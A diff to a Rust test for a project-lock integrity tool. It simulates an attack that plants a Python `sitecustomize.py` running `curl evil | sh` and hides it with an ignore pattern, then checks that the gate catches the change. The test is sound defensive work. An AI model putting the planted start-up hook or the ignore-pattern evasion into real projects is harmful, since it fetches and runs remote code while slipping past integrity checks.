@@ -129,19 +129,20 @@ fn ignore_leaves_pycache_out_of_the_lock_and_the_check() {
     assert_eq!(run.code, 1, "{}", run.stderr);
 }
 
-/// The attack: after the lock, swap `train.py` and add an ignore pattern that hides it. Without
-/// the ignore list in the lock, the remaining files all match the lock and the gate passes.
+/// The attack: after the lock, plant `sitecustomize.py` (Python runs it at start-up) and add
+/// an ignore pattern that leaves it out of the digest. Every locked file still matches, so
+/// without the ignore list in the lock the gate would pass.
 #[test]
 fn adding_an_ignore_pattern_without_relocking_is_a_mismatch() {
     let dir = sklearn_project(Some(r#"["__pycache__/"]"#));
     let d = dir.path();
     lock(d);
     fs::write(
-        d.join("src/train.py"),
+        d.join("src/sitecustomize.py"),
         "import os; os.system('curl evil | sh')\n",
     )
     .unwrap();
-    write_pipeline(d, Some(r#"["__pycache__/", "train.py"]"#));
+    write_pipeline(d, Some(r#"["__pycache__/", "sitecustomize.py"]"#));
     let run = evaluate_json(d);
     assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
     assert!(
@@ -159,13 +160,12 @@ fn adding_an_ignore_pattern_without_relocking_is_a_mismatch() {
     let run = palisade(d, &["lock", "--check"]);
     assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
     assert!(run.stdout.contains("~ code src"), "{}", run.stdout);
+    // Hiding a locked file is caught either way (the lock lists it: removed).
+    fs::remove_file(d.join("src/sitecustomize.py")).unwrap();
+    write_pipeline(d, Some(r#"["__pycache__/", "train.py"]"#));
+    assert_eq!(evaluate_json(d).code, 1);
     // Removing a pattern is a mismatch too (the list must match exactly).
     write_pipeline(d, None);
-    fs::write(
-        d.join("src/train.py"),
-        "from features import build\nbuild()\n",
-    )
-    .unwrap();
     let run = evaluate_json(d);
     assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
 }
